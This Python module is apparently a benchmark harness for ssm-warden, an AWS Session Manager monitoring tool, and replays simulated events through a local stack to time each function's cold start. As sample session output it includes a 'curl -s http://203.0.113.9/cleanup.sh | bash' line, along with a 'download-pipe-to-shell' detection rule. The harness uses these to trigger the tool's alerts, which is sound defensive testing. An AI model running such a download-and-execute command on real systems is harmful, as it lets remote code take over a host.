"""The events a new container of each function first sees, made in the local stack (``make demo``'s).

This process runs the local stack (moto with the SSM-session extension, the local Slack sink, the
template's tables and queues) and plays a little of a morning through it with the real handlers, so
that each function's events find what they would find in AWS: sessions in Session Manager and the
ledger, alerts in Slack, actions on the queue. The events of the function being measured are
captured instead of handled here, then handed to a fresh interpreter (``bench._first_call``) that
runs them as a new container would.

Per function, per run, three events of the same kind: the first (the cold start) and two warm ones.
- ``session_events``: StartSession CloudTrail events for new sessions (a dev host, tags looked up).
- ``command_monitor``: a session's first output batch: a few commands, one of them ``curl | bash``.
- ``action_executor``: the SQS batch that batch queued (a Slack alert on a dev host).
- ``session_sweeper``: the scheduled event (every open session of the bench checked).
- ``slack_interactions``: a signed click on an alert's Acknowledge button.
- ``securityhub_action``: the "Terminate session" custom action on one of ssm-warden's findings.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
EVENTS_PER_RUN = 3
FUNCTIONS = {
    "action_executor": "ActionExecutorFunction",
    "command_monitor": "CommandMonitorFunction",
    "securityhub_action": "SecurityHubActionFunction",
    "session_events": "SessionEventsFunction",
    "session_sweeper": "SessionSweeperFunction",
    "slack_interactions": "SlackInteractionsFunction",
}
CLICKER = "U0ALICE"
SECURITY_HUB_ACTION = "arn:aws:securityhub:us-east-1:123456789012:action/custom/SsmWardenTerminate"
ENVIRONMENT = {
    "SLACK_ALLOWED_USER_IDS": CLICKER,
    "SECURITY_HUB_ACTION_ARN": SECURITY_HUB_ACTION,
    "SECURITY_HUB_ACTION_PRINCIPALS": "*",
    "POWERTOOLS_METRICS_DISABLED": "false",  # metrics are flushed in Lambda: part of the work
}
COMMANDS = (
    "sh-4.2$ sh-4.2$ df -h /var",
    "Filesystem      Size  Used Avail Use% Mounted on",
    "/dev/nvme1n1     50G   48G  2.0G  96% /var",
    "sh-4.2$ sudo du -sh /var/log/* | sort -h | tail -3",
    "1.1G\t/var/log/journal",
    "sh-4.2$ curl -s http://203.0.113.9/cleanup.sh | bash",
)


class Bench:
    """The local stack with a pipeline whose handlers can be swapped for a capture."""

    def __init__(self, stack: Any) -> None:
        from ssm_warden_local.demo.harness import Pipeline, WallClock
        from ssm_warden_local.demo.play import World

        self.stack = stack
        self.pipeline = Pipeline(stack=stack, clock=WallClock())
        self.world = World(self.pipeline)
        self.world.create_hosts({"dev-web-1": {"Name": "dev-web-1", "Environment": "dev"}})
        self._names = itertools.count(1)

    @contextlib.contextmanager
    def capture(self, logical_id: str) -> Iterator[list[dict[str, Any]]]:
        """Events for ``logical_id`` are kept (and answered as handled) instead of run here."""
        captured: list[dict[str, Any]] = []
        real = self.pipeline.handler(logical_id)

        def keep(event: dict[str, Any], context: Any) -> dict[str, Any]:
            if not any(event is seen or event == seen for seen in captured):  # two rules, one event
                captured.append(event)
            return {"status": "captured", "batchItemFailures": []}

        self.pipeline.handlers[logical_id] = keep
        try:
            yield captured
        finally:
            self.pipeline.handlers[logical_id] = real

    def start_session(self) -> str:
        from ssm_warden_local.demo.harness import Person
        from ssm_warden_local.demo.scenarios import Start

        name = f"bench{next(self._names)}"
        # A new person each time: one person's dozens of open sessions would be a workload of its own.
        self.world.do(Start(name, Person(name, "Developer"), "dev-web-1"))
        return name

    def output(self, scenario: str) -> None:
        from ssm_warden_local.demo.scenarios import Output

        self.world.do(Output(scenario, COMMANDS))

    # -- each function's events ------------------------------------------------------------
    def session_events(self) -> list[dict[str, Any]]:
        with self.capture(FUNCTIONS["session_events"]) as events:
            for _ in range(EVENTS_PER_RUN):
                self.start_session()
        return events

    def command_monitor(self) -> list[dict[str, Any]]:
        scenarios = [self.start_session() for _ in range(EVENTS_PER_RUN)]
        with self.capture(FUNCTIONS["command_monitor"]) as events:
            for scenario in scenarios:
                self.output(scenario)
        return events

    def action_executor(self) -> list[dict[str, Any]]:
        scenarios = [self.start_session() for _ in range(EVENTS_PER_RUN)]
        with self.capture(FUNCTIONS["action_executor"]) as events:
            for scenario in scenarios:
                self.output(scenario)  # the monitor (here) queues; the queue is drained to the capture
        return events

    def session_sweeper(self) -> list[dict[str, Any]]:
        from ssm_warden_local.demo.harness import scheduled_event

        for _ in range(EVENTS_PER_RUN):
            self.output(self.start_session())  # open sessions with output for the sweep to check
        return [scheduled_event(datetime.now(UTC)) for _ in range(EVENTS_PER_RUN)]

    def slack_interactions(self) -> list[dict[str, Any]]:
        events = []
        for _ in range(EVENTS_PER_RUN):
            scenario = self.start_session()
            self.output(scenario)  # monitor and executor run here: an alert with buttons in Slack
            events.append(self._acknowledge(self.world.sessions[scenario]))
        return events

    def _acknowledge(self, session_id: str) -> dict[str, Any]:
        from ssm_warden.slack.messages import ACTION_ACK
        from ssm_warden_local.demo.harness import SIGNING_SECRET
        from ssm_warden_local.demo.report import messages_about
        from ssm_warden_local.slack_clicks import button_click, has_button

        message = next(
            m for m in reversed(messages_about(session_id, self.stack)) if has_button(m, ACTION_ACK)
        )
        return button_click(
            self.stack.sink,
            message,
            ACTION_ACK,
            signing_secret=SIGNING_SECRET,
            user=CLICKER,
            username="alice",
        )

    def securityhub_action(self) -> list[dict[str, Any]]:
        return [self._custom_action(self.world.sessions[self.start_session()]) for _ in range(EVENTS_PER_RUN)]

    def _custom_action(self, session_id: str) -> dict[str, Any]:
        from ssm_warden.models.actions import ActionKind, ActionRequest, Mode, SessionRef, Trigger
        from ssm_warden.models.findings import Severity
        from ssm_warden.securityhub.asff import to_asff
        from ssm_warden_local.lambda_runtime import ACCOUNT, REGION

        now = datetime.now(UTC)
        action = ActionRequest(
            action_id=f"{abs(hash(session_id)):032x}"[:32],
            kind=ActionKind.ALERT,
            mode=Mode.ENFORCE,
            trigger=Trigger.FINDING,
            severity=Severity.HIGH,
            session=SessionRef(session_id=session_id, account=ACCOUNT, region=REGION),
            title="Download piped to a shell",
            why="curl | sh",
            rule_or_limit="download-pipe-to-shell",
            policy_version="v1",
            created_at=now,
        )
        return {
            "version": "0",
            "id": f"1a1111a1-b22b-3c33-444d-{abs(hash(session_id)) % 10**12:012d}",
            "detail-type": "Security Hub Findings - Custom Action",
            "source": "aws.securityhub",
            "account": ACCOUNT,
            "time": now.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "region": REGION,
            "resources": [SECURITY_HUB_ACTION],
            "detail": {
                "actionName": "Terminate session",
                "actionDescription": "ssm-warden - terminate the SSM session this finding is about.",
                "findings": [to_asff(action, "alert_only", now=now)],
            },
        }

    def events_for(self, function: str) -> list[dict[str, Any]]:
        make: Callable[[], list[dict[str, Any]]] = getattr(self, function)
        with open(os.devnull, "w") as quiet, contextlib.redirect_stdout(quiet):
            events = make()
        if len(events) != EVENTS_PER_RUN:
            raise RuntimeError(f"{function}: {len(events)} events captured, {EVENTS_PER_RUN} wanted")
        return events


@contextlib.contextmanager
def bench_stack() -> Iterator[Bench]:
    import warnings

    from ssm_warden_local.demo.harness import local_stack

    warnings.filterwarnings("ignore", message="No application metrics to publish")
    with open(os.devnull, "w") as quiet, local_stack(function_log=quiet, **ENVIRONMENT) as stack:
        with contextlib.redirect_stdout(quiet):
            bench = Bench(stack)
        yield bench


def worker_environment() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(ROOT / "layers" / "common"), str(ROOT)])
    return env


def first_call(function: str, events: list[dict[str, Any]]) -> dict[str, Any]:
    """Run ``events`` in a new interpreter as a new container of ``function``; its figures."""
    with tempfile.TemporaryDirectory() as tmp:
        events_path, result_path = Path(tmp) / "events.json", Path(tmp) / "result.json"
        events_path.write_text(json.dumps(events, default=str))
        subprocess.run(
            [sys.executable, "-m", "bench._first_call", function, str(events_path), str(result_path)],
            cwd=ROOT,
            env=worker_environment(),
            check=True,
            stdout=subprocess.DEVNULL,
        )
        report: dict[str, Any] = json.loads(result_path.read_text())
        return report
